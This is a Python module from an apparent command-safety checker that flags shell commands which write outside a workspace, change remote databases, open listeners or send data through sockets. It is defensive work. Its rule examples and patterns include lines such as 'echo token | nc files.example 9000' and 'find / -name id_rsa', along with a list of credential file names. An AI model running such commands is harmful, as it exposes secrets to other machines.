"""Detect commands that reach beyond the workspace or this machine, by class of program.

Approval is needed for a tool that changes files it names outside the workspace, for a database client on another
machine unless its statements only read, and for text sent through a socket.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from perdure.tools.shell_safety.invocation import Invocation
from perdure.tools.shell_safety.paths import ShellPath
from perdure.tools.shell_safety.read_only import is_read_only
from perdure.tools.shell_safety.rules.guards import is_local_tool
from perdure.tools.shell_safety.rules.rule import RiskRule, git_subcommand, is_dry_run, is_help
from perdure.tools.shell_safety.rules.sending import LOCAL_URL
from perdure.tools.shell_safety.taint import SERVER_PORTS
from perdure.tools.shell_safety.types import DECODED, Danger, has_taint, word_list, word_set

# Tools that change the files they name, unless they only check.
_CHANGES_NAMED = word_set(
    "rename prename perl-rename file-rename mmv detox dos2unix unix2dos mac2unix fromdos todos sd sad recode rpl "
    "jpegoptim optipng oxipng pngquant gifsicle mogrify exiv2 id3v2 eyeD3 mid3v2 metaflac vorbiscomment mp3gain "
    "kid3-cli svgo strip objcopy patchelf chrpath elfedit upx install_name_tool chmod chown chgrp chflags SetFile "
    "setfattr black isort rustfmt swiftformat stylua csharpier alejandra nixfmt nimpretty pyupgrade pyink usort "
    "add-trailing-comma reorder-python-imports jscodeshift codemod rector nbstripout pigz pixz lzip lrzip pbzip2 "
    "unlz4 unlzma patch-package mkdirp cpx cpy-cli trash-put touch ruff-format php-cs-fixer phpcbf rufo standardrb "
    "autopep8 yapf docformatter djlint sqlfmt mdformat taplo dprint biome rome fixjson unify ufmt git-crypt"
)
_IN_PLACE = word_set(
    "--in-place --inplace --write --fix --overwrite --replace --apply -overwrite_original --force-overwrite --autofix "
    "--auto-correct --autocorrect --fix-all --delete-input-file --delete --remove-source --remove-input"
)
# Tools of which `-i` or `-w` is the same.
_SHORT_IN_PLACE = word_set(
    "gofmt goimports gofumpt golines clang-format shfmt google-java-format ocamlformat autoflake yq comby prettier "
    "perl ruby awk gawk fourmolu ormolu cmake-format buildifier tidy"
)
_ONLY_CHECKS = word_set(
    "--check --diff --list --list-different --dry-run -l --quiet-check --stdout --check-only --verify"
)
_TAG_WRITE = re.compile(r"-[\w:-]{1,60}[-+<]?=")
_FIRST_IS_MODE = word_set("chmod chown chgrp chflags rename prename perl-rename file-rename sd rpl")
_GIT_CHANGES = word_set(
    "add commit push reset checkout switch restore clean merge rebase am apply cherry-pick revert rm mv tag stash"
)


def outside_dangers(run: Invocation) -> Iterator[Danger]:
    """Yield the danger of a tool that changes files, or a repository, outside the workspace and temporary folders."""
    if is_help(run) or run.zones.workspace is None:
        return
    if run.name == "git":
        command, _ = git_subcommand(run)
        folder = run.value_of("-C") if run.args[:1] == ("-C",) else run.zones.folder
        is_change = command in _GIT_CHANGES and not (is_dry_run(run) or is_read_only(run))
        if is_change and folder and _is_elsewhere(run, run.classify(folder)):
            yield Danger("write-outside", run.summary)
        return
    if not _changes_named(run):
        return
    # The mode of `chmod -x file` looks like an option.
    has_mode = run.name in _FIRST_IS_MODE and not any(re.match(r"-[rwxXst]{1,4}\Z", a) for a in run.args[:1])
    paths = run.operands[1:] if has_mode else run.operands
    for location in (run.zones.resolve_write(path) for path in paths if not path.startswith("-")):
        if run.zones.is_outside(location) or (
            location.zone == "system" and run.name not in ("chmod", "chown", "chgrp")
        ):
            yield Danger("system-files" if location.zone == "system" else "write-outside", run.summary)
            return


def _is_elsewhere(run: Invocation, folder: ShellPath) -> bool:
    """Return whether a folder is outside the workspace and is not one above it, whose repository may be the same."""
    is_above = not folder.is_wide and f"{run.zones.workspace}/".startswith(folder.path.rstrip("/") + "/")
    return (run.zones.is_outside(folder) or folder.zone == "system") and not is_above


def _changes_named(run: Invocation) -> bool:
    if not _ONLY_CHECKS.isdisjoint(run.options) or ("check" in run.operands[:1] and not run.has("--fix")):
        return False
    if run.name == "exiftool":
        return any(_TAG_WRITE.match(a) for a in run.args)
    if run.name in _CHANGES_NAMED:
        return True
    if run.name in _SHORT_IN_PLACE and run.has("-i", "-w"):
        return True
    return not _IN_PLACE.isdisjoint(run.options) and is_local_tool(run.name)


_CLIENTS = word_set(
    "psql mysql mariadb clickhouse-client clickhouse sqlcmd sqlplus cqlsh mongo mongosh pgcli mycli usql influx trino "
    "presto hive beeline spark-sql isql impala-shell cypher-shell ysqlsh ycqlsh mclient vsql bteq tsql osql arangosh "
    "cbq ksql surreal cockroach bq snowsql snow athenacli databricks"
)
# Clients of databases that are never on this machine.
_ALWAYS_ELSEWHERE = word_set("bq snowsql snow athenacli databricks")
# Programs that fill, change or copy a database as a whole.
_LOADERS = word_set(
    "pg_restore mongorestore mongoimport mysqlimport createdb createuser dropdb dropuser pgbench pgloader vacuumdb "
    "reindexdb mysqladmin mysqlcheck sqlldr bcp ogr2ogr osm2pgsql mysqlslap pg_dump pg_dumpall mysqldump mongodump "
    "mongoexport"
)
_CACHES = word_set("redis-cli valkey-cli keydb-cli")
_CACHE_READS = word_set(
    "get mget keys scan ttl pttl exists type hget hgetall hmget hkeys hvals hlen hscan lrange llen lindex smembers "
    "scard sismember sscan zrange zscore zcard zcount zscan strlen dbsize memory object info ping time role lastsave "
    "latency slowlog xrange xlen xinfo monitor echo randomkey dump command auth select quit"
)
_CACHE_OPTIONS = word_set("--stat --bigkeys --latency --scan --hotkeys --memkeys")
_HOST_OPTIONS = word_list("-h --host --hostname --server --address --uri --url")
_HOST_OPTIONS_OF = {
    "sqlcmd": ("-S",),
    "tsql": ("-H", "-S"),
    "beeline": ("-u",),
    "cypher-shell": ("-a",),
    "redis-cli": ("-u",),
    "valkey-cli": ("-u",),
    "impala-shell": ("-i",),
    "osql": ("-S",),
    "bcp": ("-S",),
}
_ADDRESS = re.compile(r"[a-z][\w+.:]{0,30}://", re.I)
_SETTING = re.compile(r"(?:^|[\s;])(?:host|server|hostaddr)\s{0,2}=\s{0,2}([^\s;,]{1,200})", re.I)
# Names of the services of a compose file.
_SERVICE = re.compile(
    r"(?:tcp:)?(?:db|database|postgres(?:ql)?|pg|mysql|mariadb|mssql|sqlserver|redis|valkey"
    r"|mongo(?:db)?|cache|clickhouse|cassandra|neo4j|influxdb|trino|hive|[\w-]+[-_](?:test|dev|local))(?=[:/,?]|\Z)",
    re.I,
)
_READS = re.compile(
    r"\s*\(?\s*(?:select|show|explain|describe|desc|with|values|use|\\[a-z]|help|list|table|match|pragma|print|db\.version"
    r"|rs\.(?:status|conf)|sh\.status|go\b|set\s+(?:names|search_path|nocount|statement_timeout)|exit|quit|begin|commit|rollback"
    r"|return|limit|\.tables|\.schema|ping|fetch|from\s*\()",
    re.I,
)
_CHANGES = re.compile(
    r"\b(?:insert|update|delete|drop|alter|create|truncate|grant|revoke|merge\s+into|replace\s+into|into\s+(?:outfile|dumpfile)"
    r"|copy|call|exec(?:ute)?|kill|shutdown|detach|remove|set\s+\w+\.\w+|load\s+data|lock|reindex|vacuum|refresh|rename|restore"
    r"|pg_(?:terminate|cancel)_backend|pg_reload_conf|setval|nextval|dblink\w{0,10}|lo_\w{2,10}|pg_\w{0,20}(?:write|switch)\w{0,10})\b",
    re.I,
)
_DOCUMENT_READS = re.compile(
    r"\b(?:db|rs|sh)\b[\w.()'\"\[\]-]{0,200}\.(?:find(?:One)?|count\w{0,20}|aggregate|distinct|stats|getIndexes|getCollection\w{0,10}"
    r"|explain|serverStatus|currentOp|hostInfo|version|status|conf|adminCommand|runCommand|getMongo|getUsers|estimated\w{0,20})\s*\("
)
_DOCUMENT_CHANGES = re.compile(
    r"\.(?:insert|update|delete|remove|drop|create|replace|save|bulk|rename|findOneAnd|findAnd|add|fsync|kill|shutdown|grant"
    r"|revoke|reconfig|set)\w{0,30}\s*\(|\$(?:out|merge)\b|shutdown|dropDatabase",
    re.I,
)
_QUOTED = re.compile(r"'[^']*'|\"[^\"]*\"|`[^`]*`")
_MAX_STATEMENT_CHARS = 20_000


def _is_near(address: str) -> bool:
    """Return whether a host or URL is on this machine, in a compose file, or not known before the command runs."""
    host = re.sub(r"^(?:[a-z][\w+.:-]{0,30}://)?(?:[^@/\s]{0,200}@)?", "", address, flags=re.I)
    is_path = address.startswith(("/", ".", "-")) or not host or has_taint(host[:1])
    return is_path or LOCAL_URL.match(host) is not None or _SERVICE.match(host) is not None


def remote_database_dangers(run: Invocation) -> Iterator[Danger]:
    """Yield the danger of what is not clearly a read of a database on another machine, or of one in production."""
    is_cache = run.name in _CACHES
    if not (is_cache or run.name in _CLIENTS or run.name in _LOADERS) or is_help(run) or not _is_elsewhere_served(run):
        return
    if run.production_targets and _reads_rows(run):
        yield Danger("database", run.summary, "it reads data of a system that others use")
        return
    if run.name in _LOADERS:
        is_harmless = run.has("-l", "--list") or run.operands[:1] in (("status",), ("ping",), ("version",))
    else:
        is_harmless = _reads_cache(run) if is_cache else _only_reads(run)
    if not is_harmless:
        yield Danger("database", run.summary, "it may change data on another machine")


_ROWS = re.compile(r"\bselect\b(?!\s{1,4}(?:count\b|1\b|version\b|now\b|pg_))|\.find(?:One)?\(|\bcopy\b", re.I)


def _reads_rows(run: Invocation) -> bool:
    return any(_ROWS.search(a[:_MAX_STATEMENT_CHARS]) for a in run.args)


def _is_elsewhere_served(run: Invocation) -> bool:
    if run.name in _ALWAYS_ELSEWHERE:
        return True
    hosts = run.all_values_of(*_HOST_OPTIONS, *_HOST_OPTIONS_OF.get(run.name, ()))
    for word in run.args:
        hosts += [word] if _ADDRESS.match(word) else _SETTING.findall(word[:500])
    if run.name in ("mongo", "mongosh", "cqlsh"):
        hosts += [o for o in run.operands[:1] if re.fullmatch(r"[\w-]+(?:\.[\w-]+)+(?::\d+)?(?:/\S*)?", o)]
    if run.name == "sqlplus":
        hosts += [o.rpartition("@")[2].lstrip("/") for o in run.operands[:2] if "@" in o]
    hosts += [value for name, _, value in (e.partition("=") for e in run.environment) if name.endswith(("HOST", "URL"))]
    return not all(map(_is_near, hosts)) or bool(run.production_targets)


def _reads_cache(run: Invocation) -> bool:
    values = run.all_values_of(*_HOST_OPTIONS, "-u", "-p", "-a", "-n", "--user", "--pass")
    words = [o.lower() for o in run.operands if o not in values]
    words = words or (run.stdin or "").lower().split()[:1]
    if not words:
        return run.stdin is None and not run.reads
    is_setting = words[0] in ("config", "client", "cluster", "acl", "module", "function", "script")
    return (
        words[0] in _CACHE_READS
        or not _CACHE_OPTIONS.isdisjoint(run.options)
        or (is_setting and words[1:2] in (["get"], ["list"], ["info"], ["nodes"], ["whoami"], ["slots"]))
    )


def _only_reads(run: Invocation) -> bool:
    """Return whether every statement that a client is given can be read, and reads itself."""
    if any(path != "/dev/null" for path in run.reads) or run.has("--file", "--input-file"):
        return False
    if run.name != "mysql" and run.all_values_of("-f"):
        return False
    if run.name in ("sqlcmd", "osql") and run.all_values_of("-i"):
        return False
    if any(re.search(r"\.(?:js|sql|cql|cypher)\Z", o) for o in run.operands):
        return False
    texts = [a for a in run.args if re.search(r"[\s(;]", a) and not _SETTING.search(a[:500])]
    texts += [run.stdin] if run.stdin and run.stdin.strip() else []
    return all(_is_reading(text) for text in texts)


def _is_reading(text: str) -> bool:
    if has_taint(text) or len(text) > _MAX_STATEMENT_CHARS:
        return False
    text = re.sub(r"^-(?:-\w{1,20}=|[ceqQ])", "", text)
    if _DOCUMENT_READS.search(text):
        return _DOCUMENT_CHANGES.search(text) is None
    bare = _QUOTED.sub("''", re.sub(r"--[^\n]*", " ", text))
    statements = [s for s in bare.split(";") if s.strip()]
    return _CHANGES.search(bare) is None and all(_READS.match(s) for s in statements)


_SOCKET = re.compile(r"(?i)(?:tcp|udp|openssl|ssl|sctp|socks|proxy)[\w-]{0,20}:")
# What may be sent through a plain socket: a question that protocols answer.
_ASKS = re.compile(
    r"\s*(?:GET|HEAD|OPTIONS|stats|version|ruok|srvr|mntr|stat|conf|ping|info|quit|help|EHLO|HELO|NOOP|Q)\b[^\n]{0,300}",
    re.I,
)


def _sends_text(run: Invocation) -> bool:
    """Match text that is piped to another machine, unless it only asks for something."""
    # `printf` with escapes counts as decoded text.
    text = (run.stdin or "").replace(DECODED, "").strip()
    hosts = list(run.operands)
    if is_help(run) or run.has("-z", "-l") or not hosts or not text or text.startswith("\\"):
        return False
    if run.name == "socat":
        hosts = [h.partition(":")[2] for h in hosts if _SOCKET.match(h)]
    is_remote = any(re.search(r"[a-z.:]", h, re.I) and not _is_near(h) for h in hosts)
    return is_remote and not run.has("-U") and (has_taint(text) or _ASKS.match(text) is None)


_KEY_NAME = re.compile(
    r"\.?(?:id_(?:rsa|ed25519|ecdsa|dsa)|.*\.(?:pem|key|p12|pfx|kdbx|jks|keystore)|wallet\.dat|credentials|\.env.*|"
    r"\.netrc|\.pgpass|shadow|key[34]\.db|logins\.json)\*?\Z"
)


def _searches_keys(run: Invocation) -> bool:
    if run.name not in ("find", "gfind"):
        return any(_KEY_NAME.match(o.lstrip("*")) for o in run.operands)
    names = [n.lstrip("*") or n for n in run.all_values_of("-name", "-iname", "-wholename", "-path")]
    folders = [run.classify(o) for o in run.operands[:1]]
    return any(_KEY_NAME.match(n) for n in names) and any(
        f.zone in ("system", "home", "outside") and not f.is_scratch and not f.path.startswith("/usr") for f in folders
    )


_READING_METHOD = re.compile(r"(?:\S*[./])?(?:Get|List|Watch|Check|Describe|Search|Query|Read|Health|Find|Count)\w*\Z")


def _calls_service(run: Invocation) -> bool:
    """Match a call of a service on another machine that is not named like one that only reads."""
    words = tuple(
        o for o in run.operands if o not in run.all_values_of("-d", "-H", "-proto", "-import-path", "-x", "-c")
    )
    if run.name in ("wscat", "websocat"):
        addresses = [a for a in run.args if re.match(r"wss?://", a)]
        return bool(run.all_values_of("-x", "--execute")) and any(not _is_near(a) for a in addresses)
    is_call = bool(words) and not {"list", "describe"} & set(words) and not _is_near(words[0])
    return is_call and not _READING_METHOD.match(words[-1])


def _revokes(run: Invocation) -> bool:
    return run.operands[:1] == ("ca",) and not is_help(run)


def _sets_default(run: Invocation) -> bool:
    return run.operands[:1] in (("default",), ("set",), ("install",), ("uninstall",))


def _sends_mail(run: Invocation) -> bool:
    return "sendtestemail" in run.operands[:2] and not is_help(run)


def _is_served_by_others(run: Invocation) -> bool:
    """Match the address of a database on another machine in the environment of a command."""
    values = [a.partition("=")[2] for a in run.args]
    return any(_DATABASE_URL.match(v) and not _is_near(v) for v in values)


_DATABASE_URL = re.compile(
    r"(?:postgres(?:ql)?|mysql2?|mariadb|mongodb|redis|rediss|sqlserver|clickhouse|cockroachdb|amqps?)(?:\+\w{1,20})?://",
    re.I,
)


def _kills_users(run: Invocation) -> bool:
    """Match what kills the users of a file or of a system's port; a server for development has a port of its own."""
    ports = [o for o in run.operands if re.fullmatch(r"[3-9]\d{3}/tcp|\d{5}/tcp", o) and o[:-4] not in SERVER_PORTS]
    return run.has("-k", "--kill") and len(ports) != len(run.operands)


def _prunes_lfs(run: Invocation) -> bool:
    words = run.operands if run.name == "git" else ("lfs", *run.operands)
    return words[:2] in (("lfs", "prune"), ("lfs", "uninstall")) and not is_dry_run(run)


def _copies_image_away(run: Invocation) -> bool:
    """Match an image that is copied to a registry rather than to this machine."""
    local = ("dir:", "oci:", "oci-archive:", "docker-daemon:", "docker-archive:", "containers-storage:", "tarball:")
    if is_help(run) or is_dry_run(run) or not any(w in ("copy", "cp", "sync") for w in run.operands[:2]):
        return False
    target = run.operands[-1]
    return not (target.startswith((*local, "./", "/")) or LOCAL_URL.match(target.removeprefix("docker://")))


def _listens(run: Invocation) -> bool:
    """Match a socket that answers other machines: not one that is bound to this machine."""
    if run.name == "socat":
        listeners = [o for o in run.operands if re.match(r"(?i)(?:tcp|udp|openssl|sctp)\d?-l(?:isten)?:", o)]
        return any(not re.search(r"bind=(?:localhost|127\.)", o) for o in listeners)
    return run.has("-l", "--listen") and not (run.has("-U") or is_help(run) or any(map(LOCAL_URL.match, run.operands)))


RULES: tuple[RiskRule, ...] = (
    RiskRule("exposure", "nc ncat netcat nc.traditional nc.openbsd socat", _listens, "nc -lk 9000"),
    RiskRule(
        "send-data",
        "nc ncat netcat nc.traditional nc.openbsd socat telnet websocat wscat",
        _sends_text,
        "echo token | nc files.example 9000",
    ),
    RiskRule("credentials", "find gfind locate mlocate plocate mdfind", _searches_keys, "find / -name id_rsa"),
    RiskRule("cloud", "grpcurl wscat websocat", _calls_service, "grpcurl -d '{}' api.example:443 users.Users/Delete"),
    RiskRule(
        "send-data", "nix", lambda r: r.starts("copy") and r.has("--to"), "nix copy --to ssh://host.example ./result"
    ),
    RiskRule("security", "openssl", _revokes, "openssl ca -revoke certs/alice.pem"),
    RiskRule("system-files", "xdg-mime xdg-settings", _sets_default, "xdg-mime default other.desktop text/html"),
    RiskRule("system-files", "ldconfig", lambda r: not (is_help(r) or r.has("-p", "-N", "-v")), "ldconfig /opt/lib"),
    RiskRule(
        "system-files", "locale-gen update-mime-database sensors-detect", lambda r: not is_help(r), "locale-gen de_DE"
    ),
    RiskRule("kill", "renice", lambda r: r.has("-u", "-g") or "1" in r.operands, "renice -n -20 -p 1"),
    RiskRule("system-files", "hostname", lambda r: bool(r.operands), "hostname other"),
    RiskRule(
        "commitment", "python python3 manage.py django-admin", _sends_mail, "python manage.py sendtestemail a@b.example"
    ),
    RiskRule("database", "export", _is_served_by_others, "export DATABASE_URL=postgres://app@db.shop.example/shop"),
    RiskRule("kill", "fuser", _kills_users, "fuser -km /mnt/data"),
    RiskRule("git-discard", "git git-lfs", _prunes_lfs, "git lfs prune --force"),
    RiskRule(
        "publish", "crane gcrane skopeo oras regctl", _copies_image_away, "crane copy app:v1 registry.example/app:v2"
    ),
)
